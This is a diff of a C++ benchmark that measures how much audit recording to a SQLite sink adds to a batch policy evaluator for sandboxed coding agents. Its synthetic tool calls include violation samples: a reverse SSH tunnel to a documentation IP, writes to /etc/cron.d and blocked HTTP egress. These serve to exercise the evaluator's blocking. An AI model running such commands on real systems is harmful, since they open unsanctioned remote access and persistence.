@@ -1,14 +1,24 @@
 // Recording cost: the step loop at 1,000 events per step, without and with an
 // audit SqliteSink, and the overhead ratio between the two.
 //
-//   build/bench/audit_benchmark --benchmark_min_time=2
+//   build/bench/audit_benchmark --benchmark_min_time=3 --benchmark_repetitions=5 \
+//       --benchmark_report_aggregates_only=true
 //
-// Each iteration is one training step: 1,000 envs each make one call (a mix
-// of file reads and writes, shell commands and HTTP requests, some of them
-// violations), evaluated in one batch; with recording, each verdict becomes a
-// DecisionRecord moved into the sink's queue. Every 100 steps an episode ends
-// and the sink is flushed (records durable), as a trainer would. Wall time,
-// since the writer thread works beside the step loop.
+// Each iteration is one training step: 1,000 envs each make one call,
+// evaluated in one batch. The mix is what a coding agent mostly does: file
+// reads and writes, test runs and other shell commands, with ~5% violations
+// (egress, a tunnel, writes to system files); the arguments change from step
+// to step (8 variants rotate), so nothing can be cached across steps. With
+// recording, each verdict is added to an EventBatch that goes to the sink's
+// queue once per step (BM_StepLoop/1); BM_StepLoop/2 records one
+// DecisionRecord per event instead (MakeRecord + WriteBatch). Every 100 steps
+// an episode ends and the sink is flushed (records durable), as a trainer
+// would. Wall time, since the writer thread works beside the step loop;
+// "cpu" is the step thread's own time.
+//
+// BM_StepLoopOldMix/*: the mix this benchmark used first (22% violations:
+// every HTTP request is blocked), for comparison.
+#include <sys/resource.h>
 #include <unistd.h>
 
 #include <chrono>
@@ -28,41 +38,75 @@ namespace {
 constexpr int kEventsPerStep = 1000;
 constexpr int kStepsPerEpisode = 100;
 
-std::map<std::string, double>& SecondsPerStep() {
-  static std::map<std::string, double> m;
-  return m;
-}
-
 struct StepInputs {
   std::vector<std::string> tools, args;
   std::vector<ToolCall> calls;
   std::vector<int32_t> env_ids;
 };
 
-StepInputs MakeInputs() {
+double ProcessCpuSeconds() {
+  rusage u;
+  getrusage(RUSAGE_SELF, &u);
+  return static_cast<double>(u.ru_utime.tv_sec + u.ru_stime.tv_sec) +
+         1e-6 * static_cast<double>(u.ru_utime.tv_usec + u.ru_stime.tv_usec);
+}
+
+// Calls of step variant `variant`; `old_mix`: the first version's mix.
+StepInputs MakeInputs(int variant, bool old_mix) {
   StepInputs in;
+  const std::string v = std::to_string(variant);
   for (int env = 0; env < kEventsPerStep; ++env) {
-    switch (env % 5) {
-      case 0:
+    const std::string e = std::to_string(env);
+    if (old_mix) {
+      switch (env % 5) {
+        case 0:
+          in.tools.push_back("read_file");
+          in.args.push_back("{\"path\": \"src/module" + e + ".py\"}");
+          break;
+        case 1:
+          in.tools.push_back("write_file");
+          in.args.push_back("{\"path\": \"src/out" + e + ".txt\", \"content\": \"x\"}");
+          break;
+        case 2:
+          in.tools.push_back("shell");
+          in.args.push_back("{\"command\": \"pytest -q tests/test_" + e + ".py\"}");
+          break;
+        case 3:
+          in.tools.push_back("shell");
+          in.args.push_back(env % 50 == 3 ? "{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113.5\"}"
+                                          : "{\"command\": \"ls -la src/\"}");
+          break;
+        default:
+          in.tools.push_back("http_get");
+          in.args.push_back("{\"url\": \"https://host" + e + ".example/x\"}");
+      }
+    } else {
+      const int k = (env * 37 + variant * 11) % 100;
+      if (k < 30) {
         in.tools.push_back("read_file");
-        in.args.push_back("{\"path\": \"src/module" + std::to_string(env) + ".py\"}");
-        break;
-      case 1:
+        in.args.push_back("{\"path\": \"src/pkg" + v + "/module" + e + ".py\"}");
+      } else if (k < 50) {
         in.tools.push_back("write_file");
-        in.args.push_back("{\"path\": \"src/out" + std::to_string(env) + ".txt\", \"content\": \"x\"}");
-        break;
-      case 2:
+        in.args.push_back("{\"path\": \"src/pkg" + v + "/out" + e +
+                          ".py\", \"content\": \"def f():\\n    return " + e + "\\n\"}");
+      } else if (k < 70) {
         in.tools.push_back("shell");
-        in.args.push_back("{\"command\": \"pytest -q tests/test_" + std::to_string(env) + ".py\"}");
-        break;
-      case 3:
+        in.args.push_back("{\"command\": \"pytest -q tests/test_" + e + ".py -k case" + v + "\"}");
+      } else if (k < 95) {
+        static const char* kCommands[] = {"ls -la src/", "git status", "grep -rn TODO src/",
+                                          "python3 -m mypy src/", "cat README.md"};
         in.tools.push_back("shell");
-        in.args.push_back(env % 50 == 3 ? "{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113.5\"}"
-                                        : "{\"command\": \"ls -la src/\"}");
-        break;
-      default:
-        in.tools.push_back("http_get");
-        in.args.push_back("{\"url\": \"https://host" + std::to_string(env) + ".example/x\"}");
+        in.args.push_back(std::string("{\"command\": \"") + kCommands[(k + variant) % 5] + "\"}");
+      } else if (k < 98) {
+        in.tools.push_back("http_get");  // egress: blocked
+        in.args.push_back("{\"url\": \"https://host" + e + ".example/x?v=" + v + "\"}");
+      } else if (k < 99) {
+        in.tools.push_back("shell");  // tunnel: terminate
+        in.args.push_back("{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113." + v + "\"}");
+      } else {
+        in.tools.push_back("write_file");  // system file: block
+        in.args.push_back("{\"path\": \"/etc/cron.d/job" + v + "\", \"content\": \"x\"}");
+      }
     }
     in.env_ids.push_back(env);
   }
@@ -70,13 +114,18 @@ StepInputs MakeInputs() {
   return in;
 }
 
-void BM_StepLoop(benchmark::State& state) {
-  const bool record = state.range(0) != 0;
+// mode 0: evaluate only; 1: record with an EventBatch per step; 2: record
+// one DecisionRecord per event.
+void StepLoop(benchmark::State& state, bool old_mix) {
+  const int mode = static_cast<int>(state.range(0));
   PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
   Evaluator evaluator(policy, kEventsPerStep);
-  StepInputs in = MakeInputs();
+  constexpr int kVariants = 8;
+  std::vector<StepInputs> inputs;
+  for (int v = 0; v < kVariants; ++v) inputs.push_back(MakeInputs(v, old_mix));
   std::vector<Verdict> verdicts(kEventsPerStep);
   std::vector<DecisionRecord> records(kEventsPerStep);
+  EventBatch batch(policy);
 
   std::string dir = (std::filesystem::temp_directory_path() / "rg_audit_bench_XXXXXX").string();
   if (mkdtemp(dir.data()) == nullptr) {
@@ -84,7 +133,7 @@ void BM_StepLoop(benchmark::State& state) {
     return;
   }
   std::unique_ptr<SqliteSink> sink;
-  if (record) {
+  if (mode != 0) {
     auto opened = SqliteSink::Open(dir + "/audit.db", RunInfo::ForPolicy("bench", *policy));
     if (!opened.ok()) {
       state.SkipWithError(std::string(opened.status().message()).c_str());
@@ -93,11 +142,17 @@ void BM_StepLoop(benchmark::State& state) {
     sink = std::move(*opened);
   }
 
-  int64_t step = 0, episode = 0;
-  const auto start = std::chrono::steady_clock::now();
+  int64_t step = 0, episode = 0, violations = 0, events = 0;
+  const double cpu_start = ProcessCpuSeconds();
   for (auto _ : state) {
+    const StepInputs& in = inputs[(episode * kStepsPerEpisode + step) % kVariants];
     evaluator.EvaluateBatch(in.calls, in.env_ids, absl::MakeSpan(verdicts));
-    if (record) {
+    if (mode == 1) {
+      for (int i = 0; i < kEventsPerStep; ++i)
+        batch.Add(verdicts[i], {.env = i, .episode = episode, .step = step,
+                                .tool = in.calls[i].tool, .arguments = in.calls[i].arguments});
+      if (!sink->WriteBatch(&batch).ok()) state.SkipWithError("write failed");
+    } else if (mode == 2) {
       for (int i = 0; i < kEventsPerStep; ++i)
         MakeRecord(*policy, verdicts[i],
                    {.env = i, .episode = episode, .step = step, .tool = in.calls[i].tool,
@@ -106,23 +161,126 @@ void BM_StepLoop(benchmark::State& state) {
       if (!sink->WriteBatch(absl::MakeSpan(records)).ok()) state.SkipWithError("write failed");
     }
     benchmark::DoNotOptimize(verdicts.data());
+    if (step == 0 && episode == 0) {
+      for (const Verdict& v : verdicts) violations += v.action != Action::kAllow;
+      events += kEventsPerStep;
+    }
     if (++step == kStepsPerEpisode) {  // episode end
       step = 0;
       ++episode;
       evaluator.ResetAll();
-      if (record && !sink->Flush().ok()) state.SkipWithError("flush failed");
+      if (sink && !sink->Flush().ok()) state.SkipWithError("flush failed");
     }
   }
-  if (record && !sink->Flush().ok()) state.SkipWithError("flush failed");
-  const double seconds =
-      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
-  SecondsPerStep()[record ? "record" : "plain"] = seconds / static_cast<double>(state.iterations());
+  // The records still queued are part of the cost: wait for them.
+  if (sink && !sink->Flush().ok()) state.SkipWithError("flush failed");
+  // All threads (the writer too), per step: what recording costs in total
+  // when the machine has no idle core to give the writer.
+  state.counters["process_cpu_ms"] =
+      1e3 * (ProcessCpuSeconds() - cpu_start) / static_cast<double>(state.iterations());
   state.SetItemsProcessed(state.iterations() * kEventsPerStep);
-  state.SetLabel(record ? "evaluate + record to SqliteSink" : "evaluate only");
+  state.counters["violation_pct"] = events ? 100.0 * violations / events : 0.0;
+  state.SetLabel(mode == 0   ? "evaluate only"
+                 : mode == 1 ? "evaluate + record (EventBatch)"
+                             : "evaluate + record (DecisionRecord)");
   if (sink) (void)sink->Close();
   std::filesystem::remove_all(dir);
 }
-BENCHMARK(BM_StepLoop)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond)->UseRealTime();
+
+// The sink alone: verdicts evaluated once up front, then only EventBatch::Add
+// and WriteBatch per step, so the writer thread is the limit. items_per_second
+// is the sustained recording rate; flushed every 100 steps as above.
+void BM_SinkThroughput(benchmark::State& state) {
+  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
+  Evaluator evaluator(policy, kEventsPerStep);
+  constexpr int kVariants = 8;
+  std::vector<StepInputs> inputs;
+  std::vector<std::vector<Verdict>> verdicts(kVariants, std::vector<Verdict>(kEventsPerStep));
+  for (int v = 0; v < kVariants; ++v) {
+    inputs.push_back(MakeInputs(v, /*old_mix=*/false));
+    evaluator.EvaluateBatch(inputs[v].calls, inputs[v].env_ids, absl::MakeSpan(verdicts[v]));
+  }
+  std::string dir = (std::filesystem::temp_directory_path() / "rg_audit_bench_XXXXXX").string();
+  if (mkdtemp(dir.data()) == nullptr) {
+    state.SkipWithError("mkdtemp failed");
+    return;
+  }
+  auto sink = SqliteSink::Open(dir + "/audit.db", RunInfo::ForPolicy("bench", *policy));
+  if (!sink.ok()) {
+    state.SkipWithError(std::string(sink.status().message()).c_str());
+    return;
+  }
+  EventBatch batch(policy);
+  int64_t step = 0, episode = 0;
+  for (auto _ : state) {
+    const int v = static_cast<int>((episode * kStepsPerEpisode + step) % kVariants);
+    for (int i = 0; i < kEventsPerStep; ++i)
+      batch.Add(verdicts[v][i], {.env = i, .episode = episode, .step = step,
+                                 .tool = inputs[v].calls[i].tool,
+                                 .arguments = inputs[v].calls[i].arguments});
+    if (!(*sink)->WriteBatch(&batch).ok()) state.SkipWithError("write failed");
+    if (++step == kStepsPerEpisode) {
+      step = 0;
+      ++episode;
+      if (!(*sink)->Flush().ok()) state.SkipWithError("flush failed");
+    }
+  }
+  if (!(*sink)->Flush().ok()) state.SkipWithError("flush failed");
+  state.SetItemsProcessed(state.iterations() * kEventsPerStep);
+  (void)(*sink)->Close();
+  std::filesystem::remove_all(dir);
+}
+BENCHMARK(BM_SinkThroughput)->Unit(benchmark::kMillisecond)->UseRealTime();
+
+void BM_StepLoop(benchmark::State& state) { StepLoop(state, /*old_mix=*/false); }
+void BM_StepLoopOldMix(benchmark::State& state) { StepLoop(state, /*old_mix=*/true); }
+BENCHMARK(BM_StepLoop)->Arg(0)->Arg(1)->Arg(2)->Unit(benchmark::kMillisecond)->UseRealTime();
+BENCHMARK(BM_StepLoopOldMix)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond)->UseRealTime();
+
+// Prints, after the table, the wall and step-thread CPU overhead of each
+// recording variant over evaluate-only (medians when repeated).
+class RatioReporter : public benchmark::ConsoleReporter {
+ public:
+  void ReportRuns(const std::vector<Run>& runs) override {
+    ConsoleReporter::ReportRuns(runs);
+    for (const Run& run : runs) {
+      if (run.error_occurred) continue;
+      const bool aggregate = run.run_type == Run::RT_Aggregate;
+      if (aggregate && run.aggregate_name != "median") continue;
+      if (!aggregate && saw_aggregates_) continue;
+      saw_aggregates_ |= aggregate;
+      const std::string name = run.run_name.function_name + "/" + run.run_name.args;
+      auto process = run.counters.find("process_cpu_ms");
+      times_[name] = {run.GetAdjustedRealTime(), run.GetAdjustedCPUTime(),
+                      process != run.counters.end() ? process->second.value : 0.0};
+    }
+  }
+  void Finalize() override {
+    ConsoleReporter::Finalize();
+    for (const char* family : {"BM_StepLoop", "BM_StepLoopOldMix"}) {
+      auto plain = times_.find(std::string(family) + "/0");
+      if (plain == times_.end()) continue;
+      for (const char* mode : {"1", "2"}) {
+        auto rec = times_.find(std::string(family) + "/" + mode);
+        if (rec == times_.end()) continue;
+        const Times& p = plain->second;
+        const Times& r = rec->second;
+        std::printf("%s/%s: %.3f ms/step plain, %.3f ms recording: wall overhead %+.1f%%, "
+                    "step-thread cpu %+.1f%%, process cpu (all threads) %+.1f%%\n",
+                    family, mode, p.wall, r.wall, 100.0 * (r.wall / p.wall - 1.0),
+                    100.0 * (r.step_cpu / p.step_cpu - 1.0),
+                    100.0 * (r.process_cpu / p.process_cpu - 1.0));
+      }
+    }
+  }
+
+ private:
+  struct Times {
+    double wall, step_cpu, process_cpu;  // ms per step
+  };
+  bool saw_aggregates_ = false;
+  std::map<std::string, Times> times_;
+};
 
 }  // namespace
 }  // namespace rewardguard
@@ -130,13 +288,8 @@ BENCHMARK(BM_StepLoop)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond)->UseRealTi
 int main(int argc, char** argv) {
   benchmark::Initialize(&argc, argv);
   if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
-  benchmark::RunSpecifiedBenchmarks();
+  rewardguard::RatioReporter reporter;
+  benchmark::RunSpecifiedBenchmarks(&reporter);
   benchmark::Shutdown();
-  auto& m = rewardguard::SecondsPerStep();
-  if (m.count("plain") && m.count("record")) {
-    std::printf("step loop, %d events/step: %.3f ms plain, %.3f ms recording; overhead %.1f%%\n",
-                rewardguard::kEventsPerStep, 1e3 * m["plain"], 1e3 * m["record"],
-                100.0 * (m["record"] / m["plain"] - 1.0));
-  }
   return 0;
 }
